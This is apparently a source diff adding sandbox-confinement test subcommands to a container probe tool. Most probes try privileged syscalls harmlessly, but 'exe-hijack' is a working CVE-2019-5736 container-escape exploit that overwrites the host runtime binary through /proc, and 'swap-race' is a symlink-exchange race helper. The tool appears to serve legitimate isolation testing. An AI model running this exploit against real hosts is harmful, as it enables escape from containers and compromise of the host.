@@ -24,9 +24,15 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sched.h>
+#include <sys/mount.h>
 #include <sys/personality.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/statfs.h>
+#include <sys/statvfs.h>
+#include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
 #include <sys/utsname.h>
@@ -652,6 +658,206 @@ static int cmd_echo(int argc, char **argv) {
   return 0;
 }
 
+
+/* ------------------------------------------------------- confinement probes */
+
+static void print_result(const char *name, long rc, int err) {
+  if (rc >= 0) {
+    printf("%s ok\n", name);
+    return;
+  }
+  const char *e = errno_name(err);
+  if (e)
+    printf("%s %s\n", name, e);
+  else
+    printf("%s %d\n", name, err);
+}
+
+/* Each NAME is one syscall a confined process should (or should not) be able to
+ * make; prints "NAME ok" or "NAME ERRNO".  Arguments are chosen so that a call
+ * that gets through changes nothing (bad magic, empty images, fds that are not
+ * there), and a process made by one (clone) exits at once. */
+static long try_syscall(const char *name, int *err) {
+  long rc = -1;
+  errno = 0;
+  if (!strcmp(name, "getpid")) rc = syscall(SYS_getpid);
+  else if (!strcmp(name, "keyctl")) rc = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
+  else if (!strcmp(name, "add_key")) rc = syscall(SYS_add_key, "user", "guise-probe", "x", 1, -3);
+  else if (!strcmp(name, "request_key")) rc = syscall(SYS_request_key, "user", "guise-probe", NULL, 0);
+  else if (!strcmp(name, "unshare-user")) rc = unshare(CLONE_NEWUSER);
+  else if (!strcmp(name, "unshare-mnt")) rc = unshare(CLONE_NEWNS);
+  else if (!strcmp(name, "clone-user")) {
+    rc = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
+    if (rc == 0) _exit(0);
+    if (rc > 0) waitpid((pid_t)rc, NULL, 0);
+  } else if (!strcmp(name, "mount")) rc = mount("none", "/tmp", "tmpfs", 0, NULL);
+  else if (!strcmp(name, "init_module")) rc = syscall(SYS_init_module, "", 0, "");
+  else if (!strcmp(name, "finit_module")) rc = syscall(SYS_finit_module, -1, "", 0);
+  else if (!strcmp(name, "delete_module")) rc = syscall(SYS_delete_module, "guise_no_such_module", O_NONBLOCK);
+  else if (!strcmp(name, "reboot")) rc = syscall(SYS_reboot, 0, 0, 0, NULL); /* bad magic: EINVAL if let through */
+  else if (!strcmp(name, "kexec_load")) rc = syscall(SYS_kexec_load, 0, 0, NULL, 0);
+  else if (!strcmp(name, "swapon")) rc = syscall(SYS_swapon, "/guise-no-such-swap", 0);
+  else if (!strcmp(name, "bpf")) rc = syscall(SYS_bpf, 5 /* PROG_LOAD */, NULL, 0);
+  else if (!strcmp(name, "perf_event_open")) rc = syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0);
+  else if (!strcmp(name, "userfaultfd")) rc = syscall(SYS_userfaultfd, O_CLOEXEC);
+  else if (!strcmp(name, "open_by_handle_at")) rc = syscall(SYS_open_by_handle_at, -1, NULL, 0);
+  else if (!strcmp(name, "setns")) rc = syscall(SYS_setns, -1, 0);
+  else if (!strcmp(name, "pivot_root")) rc = syscall(SYS_pivot_root, "/guise-none", "/guise-none");
+  else if (!strcmp(name, "acct")) rc = syscall(SYS_acct, NULL);
+  else if (!strcmp(name, "settimeofday")) rc = syscall(SYS_settimeofday, NULL, NULL);
+  else if (!strcmp(name, "iopl")) rc = syscall(SYS_iopl, 0);
+  else if (!strcmp(name, "ioperm")) rc = syscall(SYS_ioperm, 0, 0, 0);
+  else if (!strcmp(name, "personality-query")) rc = personality(0xffffffff);
+  else if (!strcmp(name, "personality-bad")) rc = syscall(SYS_personality, 0x0040000 /* ADDR_NO_RANDOMIZE */);
+  else if (!strcmp(name, "socket-vsock")) {
+    rc = socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
+    if (rc >= 0) close((int)rc);
+  } else if (!strcmp(name, "chroot")) rc = chroot("/");
+  else {
+    errno = EINVAL;
+    *err = -1;
+    return -2;
+  }
+  *err = errno;
+  return rc;
+}
+
+static int cmd_syscall(int argc, char **argv) {
+  if (argc < 1) return usage("syscall NAME...");
+  for (int i = 0; i < argc; i++) {
+    int err = 0;
+    long rc = try_syscall(argv[i], &err);
+    if (rc == -2 && err == -1) return usage("syscall NAME: unknown name");
+    print_result(argv[i], rc, err);
+  }
+  return 0;
+}
+
+/* kill PID SIGNAL: "kill ok" or "kill ESRCH". */
+static int cmd_kill(int argc, char **argv) {
+  long pid;
+  int sig = argc == 2 ? parse_signal(argv[1]) : -1;
+  if (argc == 2 && !strcmp(argv[1], "0")) sig = 0;
+  if (argc != 2 || parse_long(argv[0], &pid) < 0 || sig < 0) return usage("kill PID SIGNAL");
+  long rc = kill((pid_t)pid, sig);
+  print_result("kill", rc, errno);
+  return 0;
+}
+
+static int cmd_mkdir(int argc, char **argv) {
+  if (argc != 1) return usage("mkdir PATH");
+  long rc = mkdir(argv[0], 0755);
+  print_result("mkdir", rc, errno);
+  return 0;
+}
+
+static int cmd_statfs(int argc, char **argv) {
+  if (argc != 1) return usage("statfs PATH");
+  struct statfs fs;
+  if (statfs(argv[0], &fs) < 0) return fail("statfs", argv[0]);
+  printf("fstype 0x%lx\nreadonly %d\n", (unsigned long)fs.f_type, (fs.f_flags & ST_RDONLY) ? 1 : 0);
+  return 0;
+}
+
+/* The session keyring this process has: its serial and description. */
+static int cmd_keyring(int argc, char **argv) {
+  (void)argc; (void)argv;
+  long serial = syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0);
+  if (serial < 0) return fail("keyctl", "session keyring");
+  char desc[512];
+  long n = syscall(SYS_keyctl, 6 /* DESCRIBE */, serial, desc, sizeof desc - 1);
+  if (n < 0) return fail("keyctl describe", NULL);
+  desc[n < (long)sizeof desc ? n : (long)sizeof desc - 1] = '\0';
+  printf("session %ld\ndesc %s\n", serial, desc);
+  return 0;
+}
+
+/* swap-race A B SECONDS: exchanges A and B with renameat2(RENAME_EXCHANGE) as
+ * fast as it can, the racing helper of the symlink-exchange attacks. */
+static int cmd_swap_race(int argc, char **argv) {
+  double s;
+  if (argc != 3 || parse_seconds(argv[2], &s) < 0) return usage("swap-race A B SECONDS");
+  install_exit_handlers();
+  double end = now_seconds() + s;
+  long swaps = 0, errors = 0;
+  while (now_seconds() < end) {
+    for (int i = 0; i < 1000; i++) {
+      if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */) == 0)
+        swaps++;
+      else
+        errors++;
+    }
+  }
+  printf("swaps %ld\nerrors %ld\n", swaps, errors);
+  return 0;
+}
+
+/* exe-hijack SECONDS: CVE-2019-5736.  Watches /proc for processes whose
+ * executable is not in this container's filesystem (the runtime joining it for
+ * `exec`), opens /proc/PID/exe, then tries to reopen that for writing through
+ * /proc/self/fd once the runtime no longer runs it, and writes a marker.
+ * Prints what it saw and managed. */
+static int cmd_exe_hijack(int argc, char **argv) {
+  double s;
+  if (argc != 1 || parse_seconds(argv[0], &s) < 0) return usage("exe-hijack SECONDS");
+  install_exit_handlers();
+  struct stat root;
+  if (stat("/", &root) < 0) return fail("stat", "/");
+  double end = now_seconds() + s;
+  long seen = 0, opened = 0, denied = 0, written = 0, busy = 0;
+  int fds[64];
+  int nfds = 0;
+  char seen_pids[65536 / 8] = {0};
+  while (now_seconds() < end) {
+    DIR *d = opendir("/proc");
+    if (!d) return fail("opendir", "/proc");
+    struct dirent *de;
+    while ((de = readdir(d))) {
+      long pid;
+      if (parse_long(de->d_name, &pid) < 0 || pid == getpid() || pid <= 0 || pid >= 65536) continue;
+      if (seen_pids[pid / 8] & (1 << (pid % 8))) continue;
+      char path[64];
+      snprintf(path, sizeof path, "/proc/%ld/exe", pid);
+      int fd = open(path, O_RDONLY | O_CLOEXEC);
+      if (fd < 0) {
+        if (errno == EACCES || errno == EPERM) {
+          seen_pids[pid / 8] |= (char)(1 << (pid % 8));
+          seen++;
+          denied++;
+        }
+        continue;
+      }
+      struct stat st;
+      seen_pids[pid / 8] |= (char)(1 << (pid % 8));
+      if (fstat(fd, &st) == 0 && st.st_dev != root.st_dev && nfds < 64) {
+        seen++;
+        opened++;
+        fds[nfds++] = fd;
+      } else {
+        close(fd);
+      }
+    }
+    closedir(d);
+    for (int i = 0; i < nfds; i++) {
+      if (fds[i] < 0) continue;
+      char path[64];
+      snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
+      int w = open(path, O_WRONLY | O_CLOEXEC);
+      if (w < 0) {
+        if (errno == ETXTBSY) busy++;
+        continue;
+      }
+      static const char marker[] = "#!/bin/sh\necho guise-5736-pwned\n";
+      if (write(w, marker, sizeof marker - 1) > 0) written++;
+      close(w);
+      close(fds[i]);
+      fds[i] = -1;
+    }
+  }
+  printf("seen %ld\nopened %ld\ndenied %ld\nbusy %ld\nwritten %ld\n", seen, opened, denied, busy, written);
+  return 0;
+}
+
 /* ------------------------------------------------------------------ main */
 
 static const struct {
@@ -672,6 +878,10 @@ static const struct {
     {"personality", cmd_personality}, {"tty", cmd_tty},
     {"fork-many", cmd_fork_many}, {"open", cmd_open},
     {"mknod-test", cmd_mknod_test}, {"echo", cmd_echo},
+    {"syscall", cmd_syscall},   {"kill", cmd_kill},
+    {"mkdir", cmd_mkdir},       {"statfs", cmd_statfs},
+    {"keyring", cmd_keyring},   {"swap-race", cmd_swap_race},
+    {"exe-hijack", cmd_exe_hijack},
 };
 
 int main(int argc, char **argv) {
